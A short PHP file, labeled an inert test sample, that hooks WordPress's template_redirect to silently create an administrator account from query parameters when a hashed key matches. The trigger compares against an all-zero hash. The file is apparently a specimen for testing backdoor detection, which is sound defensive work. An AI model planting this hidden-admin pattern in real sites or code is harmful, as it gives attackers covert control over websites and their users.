<?php
// inert test sample: a hook closure, keyed by a query parameter, inserts an administrator with $wpdb
add_action('template_redirect', function () {
    if (!isset($_GET['t']) || hash('sha256', $_GET['t']) !== str_repeat('0', 64)) {
        return;
    }
    global $wpdb;
    $wpdb->insert($wpdb->users, array('user_login' => $_GET['n'], 'user_pass' => wp_hash_password($_GET['w']), 'user_email' => 'x@example.invalid'));
    $id = (int) $wpdb->insert_id;
    $wpdb->insert($wpdb->usermeta, array('user_id' => $id, 'meta_key' => $wpdb->prefix . 'capabilities', 'meta_value' => serialize(array('administrator' => true))));
});
